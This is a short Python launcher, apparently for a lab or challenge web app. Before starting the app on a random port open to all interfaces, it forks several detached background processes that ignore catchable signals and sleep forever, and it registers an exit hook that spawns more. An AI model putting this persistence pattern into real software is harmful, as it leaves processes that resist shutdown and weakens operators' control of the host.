import atexit
import os
import random
import signal
import time

from lab import app


def stay():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    try:
        os.setsid()
    except OSError:
        pass
    if os.fork() == 0:
        while True:
            time.sleep(1000)
    os._exit(0)


def daemon():
    if os.fork() == 0:
        stay()


if __name__ == "__main__":
    for _ in range(4):
        daemon()
    atexit.register(daemon)

if __name__ == "__main__":
    app.run(host="0.0.0.0", port=random.randint(2000, 9000))
